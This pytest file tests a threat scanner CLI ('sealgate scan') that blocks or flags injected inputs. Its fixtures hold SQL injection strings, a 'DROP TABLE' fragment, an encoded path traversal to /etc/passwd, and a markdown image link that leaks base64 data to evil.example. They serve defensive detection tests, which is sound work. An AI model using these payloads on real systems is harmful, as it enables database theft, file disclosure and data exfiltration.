"""What `sealgate scan --what threat` prints, run as a command."""

from __future__ import annotations

from pathlib import Path

import pytest
from typer.testing import CliRunner

from gateway.cli import app

CALL = '{"query": "1 UNION SELECT password FROM users--", "file": "..%2f..%2fetc%2fpasswd"}'
LEAK = "Done. ![ok](https://evil.example/p.png?data=c2VjcmV0IGtleSBpcyAxMjM0NQ) Bye."
QUESTION = "What does ' OR 1=1 -- do?"
CLI_PAGE = Path(__file__).parents[3] / "docs/reference/cli.md"


def scanned(text: str, *options: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["scan", "--what", "threat", *options], input=text)
    return result.exit_code, result.stdout


def test_arguments_are_judged_value_by_value_and_say_why() -> None:
    code, out = scanned(CALL)

    assert code == 1
    assert out.startswith("blocked: sql, score 0.9")
    assert " in `query`\n  sql_union_select: characters 2 to 14: UNION SELECT\n" in out
    assert "\n  path_secret_file: once it is decoded: ../../etc/passwd\n" in out


def test_the_page_shows_what_is_printed() -> None:
    assert scanned(CALL)[1] in CLI_PAGE.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("text", "options", "wanted"),
    [
        ('{"code": "x = 1; DROP TABLE users"}', [], "flagged: sql, score 0.8"),
        ('{"code": "x = 1; DROP TABLE users"}', [], "which is meant to be code"),
        (LEAK, ["--place", "answers"], "blocked: exfiltration"),
        (QUESTION, ["--place", "prose"], "flagged: sql"),
        (QUESTION, ["--place", "results"], "flagged: sql"),
    ],
)
def test_the_place_decides(text: str, options: list[str], wanted: str) -> None:
    code, out = scanned(text, *options)

    assert code == 1
    assert wanted in out


@pytest.mark.parametrize(
    ("text", "options"),
    [
        ("It's a nice day", []),
        (QUESTION, ["--place", "answers"]),
        (f"```\n{LEAK}\n```", ["--place", "answers"]),
    ],
)
def test_what_is_harmless_in_its_place_is_not_found(text: str, options: list[str]) -> None:
    assert scanned(text, *options) == (0, "nothing found\n")


@pytest.mark.parametrize("options", [["--place", "moon"], ["--what", "everything"]])
def test_it_names_what_it_does_not_know(options: list[str]) -> None:
    result = CliRunner().invoke(app, ["scan", "--what", "threat", *options], input="x")

    assert result.exit_code == 2
    assert "choose from" in result.stderr
